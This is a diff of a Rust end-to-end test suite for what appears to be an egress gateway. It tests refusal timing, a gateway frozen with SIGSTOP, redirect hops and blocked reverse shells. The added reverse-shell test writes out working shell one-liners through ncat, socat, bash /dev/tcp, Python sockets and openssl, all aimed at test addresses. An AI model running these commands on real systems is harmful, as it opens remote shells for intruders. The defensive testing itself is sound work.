@@ -1,5 +1,7 @@
-//! Rows of policy-semantics.md and of the first issue that no topic owns: how soon every real client hears of a
-//! refusal, what an explanation survives, and the rates of one job.
+//! Rows of policy-semantics.md, of the list of evasions and of the first issue that no topic owns: how soon every
+//! real client hears of a refusal, what an explanation survives, the rates of one job, a gateway that is frozen.
+
+mod clients;
 
 use std::time::Instant;
 
@@ -7,270 +9,7 @@ use serde_json::Value;
 use tidegate_e2e::dns::{self, dig};
 use tidegate_e2e::hello::{self, Client};
 use tidegate_e2e::{PATIENCE, block, command, event, flow_event, run, started};
-use tidegate_lab::{Ending, EventLog, Gateway, Lab, Output, Script, plan, wait_until};
-
-/// Hosts of the clients below: name, number of its address, the ports that they ask for.
-const HOSTS: [(&str, u8, &[u16]); 5] = [
-    ("allowed.test", 10, &[80, 443]),
-    ("git.test", 30, &[22, 443]),
-    ("index.test", 50, &[443]),
-    ("db.test", 40, &[5432]),
-    ("raw.test", 80, &[7000]),
-];
-
-/// A command line on runner 0, the port that it goes to and, by name, where the refusal shows: a piece of what the
-/// tool says. Every line must end by itself.
-struct Tool {
-    line: Vec<String>,
-    input: &'static str,
-    name: &'static str,
-    port: &'static str,
-    says: &'static str,
-    reason: &'static str,
-}
-
-fn client(name: &'static str, port: &'static str, says: &'static str, line: &[&str]) -> Tool {
-    Tool {
-        line: line.iter().map(|&word| word.to_owned()).collect(),
-        input: "",
-        name,
-        port,
-        says,
-        reason: "not-allowed",
-    }
-}
-
-fn clients(lab: &Lab) -> Vec<Tool> {
-    let (https, ssh, index) = (lab.git_https_url(), lab.git_ssh_url(), lab.index_url());
-    let ca = lab.ca_pem_path().display().to_string();
-    let fetch = "import urllib.request; urllib.request.urlopen('https://allowed.test/', timeout=1)";
-    let pip = [
-        "python3",
-        "-m",
-        "pip",
-        "--cert",
-        &ca,
-        "--timeout",
-        "1",
-        "--retries",
-        "0",
-        "--no-cache-dir",
-    ];
-    let pip = [
-        &pip[..],
-        &[
-            "download",
-            "-q",
-            "--no-deps",
-            "--index-url",
-            &index,
-            "-d",
-            "wheels",
-        ],
-    ]
-    .concat();
-    let openssl = [
-        "openssl",
-        "s_client",
-        "-connect",
-        "allowed.test:443",
-        "-verify_return_error",
-    ];
-    let mut all = vec![
-        client(
-            "allowed.test",
-            "443",
-            "access denied",
-            &["curl", "-sS", "--http1.1", "https://allowed.test/"],
-        ),
-        client(
-            "allowed.test",
-            "443",
-            "access denied",
-            &["curl", "-sS", "--http2", "https://allowed.test/"],
-        ),
-        client(
-            "allowed.test",
-            "80",
-            "403",
-            &["curl", "-sSf", "http://allowed.test/"],
-        ),
-        client(
-            "allowed.test",
-            "443",
-            "access denied",
-            &[&openssl[..], &["-servername", "allowed.test"]].concat(),
-        ),
-        client(
-            "allowed.test",
-            "443",
-            "access denied",
-            &[&openssl[..], &["-noservername"]].concat(),
-        ),
-        client("allowed.test", "443", "access denied", &["python3", "-c", fetch]),
-        client(
-            "git.test",
-            "443",
-            "denied",
-            &["git", "clone", "-q", &https, "https"],
-        ),
-        client("git.test", "22", "", &["git", "clone", "-q", &ssh, "ssh"]),
-        client(
-            "index.test",
-            "443",
-            "",
-            &[&pip[..], &["tidegate-lab-demo"]].concat(),
-        ),
-        client(
-            "db.test",
-            "5432",
-            "",
-            &["psql", "-h", "db.test", "-U", "postgres", "-tAc", "select 1"],
-        ),
-        client("raw.test", "7000", "reset", &["ncat", "raw.test", "7000"]),
-        client(
-            "raw.test",
-            "7000",
-            "",
-            &["socat", "-t", "2", "-", "TCP:raw.test:7000"],
-        ),
-    ];
-    for raw in all.iter_mut().filter(|one| one.name == "raw.test") {
-        raw.input = "\u{1}\u{2}raw\n";
-    }
-    // Nothing names its destination: the only name of the address is not allowed on that port.
-    for nameless in all
-        .iter_mut()
-        .filter(|one| one.line.iter().any(|word| word == "-noservername"))
-    {
-        nameless.reason = "no-name";
-    }
-    all
-}
-
-/// Runs it in a folder of its own, ended after `limit` seconds with code 124.
-async fn attempt(lab: &Lab, client: &Tool, folder: &str, limit: &str) -> Output {
-    let home = lab.runner(0).home().join(folder);
-    std::fs::create_dir_all(&home).unwrap();
-    let line: Vec<&str> = ["timeout", limit]
-        .into_iter()
-        .chain(client.line.iter().map(String::as_str))
-        .collect();
-    command(lab, &line)
-        .input(client.input)
-        .current_dir(&home)
-        .run()
-        .await
-        .unwrap()
-}
-
-/// Python needs most of a second to begin with: there its own limit of one second on every wait counts, and what it
-/// says tells a timeout from a refusal. Elsewhere a busy machine may need several attempts; a slow gateway needs all.
-async fn refused_in_time(lab: &Lab, client: &Tool, folder: &str) -> Output {
-    const ATTEMPTS: usize = 8;
-    let limit = if client.line[0] == "python3" { "20" } else { "1" };
-    for count in 1..=ATTEMPTS {
-        let output = attempt(lab, client, &format!("{folder}-{count}"), limit).await;
-        if output.code() != Some(124) && !output.errors().contains("timed out") {
-            return output;
-        }
-    }
-    panic!(
-        "{:?} heard of no refusal within a second, {ATTEMPTS} times",
-        client.line
-    );
-}
-
-async fn swapped(gateway: &Gateway<'_>, policy: &str) {
-    gateway.write("build.yaml", policy).unwrap();
-    gateway
-        .wait_status("the new policy", |status| status["policy_generation"] == 2)
-        .await
-        .unwrap();
-}
-
-/// Issue, "Shown by": what is allowed works; what is not is refused within 1 s, with the reason in the event, and
-/// the explanation is visible wherever the protocol can show one. The names have addresses of one family only.
-async fn every_client_by(family: usize) {
-    let lab = Lab::builder().git().ssh().index().postgres().build().unwrap();
-    for (name, number, _) in HOSTS {
-        lab.name(name, &[plan::site(number)[family]]).unwrap();
-    }
-    let echo = Script::echo().then(Ending::Close);
-    lab.raw((plan::site(80)[family], 7000).into(), echo).unwrap();
-    let endpoints: Vec<_> = HOSTS
-        .iter()
-        .flat_map(|(name, _, ports)| ports.iter().map(move |port| format!("{name}:{port}")))
-        .collect();
-    let gateway = started(
-        &lab,
-        &block(&endpoints.iter().map(String::as_str).collect::<Vec<_>>()),
-    )
-    .await;
-    let mut events = gateway.events();
-    let clients = clients(&lab);
-    for (index, client) in clients.iter().enumerate() {
-        let output = attempt(&lab, client, &format!("allowed-{index}"), "20").await;
-        assert!(worked(client, &output), "{:?}: {output}", client.line);
-        let fields = [
-            ("name", client.name),
-            ("port", client.port),
-            ("verdict", "permit"),
-        ];
-        event(&mut events, &fields).await;
-    }
-    // The names stay answerable, by another port, so that it is the connection which is refused.
-    let elsewhere: Vec<_> = HOSTS.iter().map(|(name, ..)| format!("{name}:9")).collect();
-    swapped(
-        &gateway,
-        &block(&elsewhere.iter().map(String::as_str).collect::<Vec<_>>()),
-    )
-    .await;
-    for (index, client) in clients.iter().enumerate() {
-        let before = refusals(&mut events, client);
-        let output = refused_in_time(&lab, client, &format!("refused-{index}")).await;
-        assert!(!worked(client, &output), "{:?}: {output}", client.line);
-        let said = output.errors().replace('_', " ").to_lowercase();
-        assert!(said.contains(client.says), "{:?}: {output}", client.line);
-        let told = wait_until("the refusal's event", PATIENCE, async || {
-            match refusals(&mut events, client) {
-                after if after > before => Ok(()),
-                after => Err(after),
-            }
-        });
-        told.await
-            .unwrap_or_else(|error| panic!("{:?}: {error}", client.line));
-    }
-    assert_eq!(lab.leaks().unwrap().packets, 0);
-}
-
-/// Tools for raw TCP end with 0 however the connection did: what they sent must have come back.
-fn worked(client: &Tool, output: &Output) -> bool {
-    output.code() == Some(0) && output.text().contains(client.input)
-}
-
-/// Refusals of this client's destination, each with the right reason.
-fn refusals(events: &mut EventLog, client: &Tool) -> usize {
-    let wanted = [
-        ("port", client.port),
-        ("verdict", "refuse"),
-        ("reason", client.reason),
-    ];
-    let named = |event: &Value| client.reason == "no-name" || event["name"] == client.name;
-    events
-        .matching(|event| tidegate_e2e::has(event, &wanted) && named(event))
-        .len()
-}
-
-#[tokio::test]
-async fn every_client_is_served_or_refused_within_a_second_by_ipv4() {
-    every_client_by(0).await;
-}
-
-#[tokio::test]
-async fn every_client_is_served_or_refused_within_a_second_by_ipv6() {
-    every_client_by(1).await;
-}
+use tidegate_lab::{Lab, Script, Signal, plan};
 
 /// Row "TLS/QUIC with SNI": names that the gateway resolves for a flow count in the job's DNS budget.
 #[tokio::test]
@@ -400,5 +139,116 @@ async fn l04_at_most_ten_echo_requests_of_a_job_leave_in_a_second() {
     assert!(
         (10..=most).contains(&left),
         "{left} of 120 left, at most {most} may"
+    );
+}
+
+/// Stopped (SIGSTOP), the gateway decides nothing and nothing crosses; continued, it serves.
+#[tokio::test]
+async fn l17_a_frozen_gateway_is_closed_and_goes_on() {
+    let lab = Lab::builder().build().unwrap();
+    let gateway = started(&lab, &(block(&["allowed.test:443"]) + "icmp: true\n")).await;
+    run(&lab, &["curl", "-sS", "https://allowed.test/"])
+        .await
+        .expect_success();
+    let before = lab.origins().connections().len();
+    gateway.process().signal(Signal::SIGSTOP).unwrap();
+    for line in [
+        &[
+            "curl",
+            "-sS",
+            "-m",
+            "1",
+            "--resolve",
+            "allowed.test:443:192.0.2.10",
+            "https://allowed.test/",
+        ][..],
+        &["curl", "-sS", "-m", "1", "-g", "http://[2001:db8:200::10]/"],
+        &["dig", "+tries=1", "+time=1", "@203.0.113.53", "allowed.test"],
+        &["ping", "-c", "1", "-W", "1", "192.0.2.10"],
+    ] {
+        run(&lab, line).await.expect_failure();
+    }
+    assert_eq!(lab.leaks().unwrap().packets, 0);
+    assert_eq!(lab.origins().connections().len(), before);
+    gateway.process().signal(Signal::SIGCONT).unwrap();
+    run(&lab, &["curl", "-sS", "https://allowed.test/"])
+        .await
+        .expect_success();
+}
+
+/// Reverse shells by nc, socat, bash, python and openssl: towards a name or an address that is not listed none
+/// connects to anybody.
+#[tokio::test]
+async fn n13_reverse_shells_reach_nobody() {
+    let lab = Lab::builder().build().unwrap();
+    let listeners = ["192.0.2.80:4444", "[2001:db8:200::80]:4444", "192.0.2.80:443"].map(|at| {
+        lab.raw(at.parse().unwrap(), Script::silent().banner("id\n"))
+            .unwrap()
+    });
+    lab.name("shell.test", &plan::site(80)).unwrap();
+    let gateway = started(&lab, &block(&["allowed.test:443"])).await;
+    let mut events = gateway.events();
+    let python = "import socket, subprocess; s = socket.create_connection(('192.0.2.80', 443)); \
+                  subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno())";
+    for (line, port) in [
+        (
+            &["ncat", "-w", "2", "-e", "/bin/sh", "192.0.2.80", "4444"][..],
+            "4444",
+        ),
+        (&["socat", "TCP6:[2001:db8:200::80]:4444", "EXEC:/bin/sh"], "4444"),
+        (
+            &["bash", "-c", "exec 3<>/dev/tcp/192.0.2.80/4444; sh <&3 >&3"],
+            "4444",
+        ),
+        (&["python3", "-c", python], "443"),
+        (
+            &["openssl", "s_client", "-quiet", "-connect", "192.0.2.80:443"],
+            "443",
+        ),
+    ] {
+        events.forget();
+        command(&lab, line).run().await.unwrap();
+        event(&mut events, &[("port", port), ("verdict", "refuse")]).await;
+    }
+    run(&lab, &["ncat", "-w", "2", "-e", "/bin/sh", "shell.test", "4444"]).await;
+    event(
+        &mut events,
+        &[("kind", "dns"), ("name", "shell.test"), ("verdict", "refuse")],
+    )
+    .await;
+    let reached: Vec<_> = listeners
+        .iter()
+        .flat_map(tidegate_lab::RawServer::connections)
+        .collect();
+    assert!(reached.is_empty(), "{reached:?}");
+}
+
+/// A redirect off an allowed host is another question and another connection.
+#[tokio::test]
+async fn a11_each_hop_of_a_redirect_is_judged() {
+    let lab = Lab::builder().build().unwrap();
+    let gateway = started(&lab, &block(&["allowed.test:443", "cdn-a.test:443"])).await;
+    let via = |to: &str| format!("https://allowed.test/redirect?to={to}");
+    run(&lab, &["curl", "-sSL", &via("https://cdn-a.test/")])
+        .await
+        .expect_success();
+    for to in ["https://evil.test/", "http://cdn-a.test/", "https://192.0.2.66/"] {
+        run(&lab, &["curl", "-fksSL", "-m", "5", &via(to)])
+            .await
+            .expect_failure();
+    }
+    let mut events = gateway.events();
+    event(
+        &mut events,
+        &[("kind", "dns"), ("name", "evil.test"), ("verdict", "refuse")],
+    )
+    .await;
+    event(&mut events, &[("address", "192.0.2.66"), ("verdict", "refuse")]).await;
+    let reached = lab.origins().requests();
+    assert!(
+        reached
+            .iter()
+            .all(|one| one.authority.as_deref() != Some("evil.test")),
+        "{reached:?}"
     );
 }
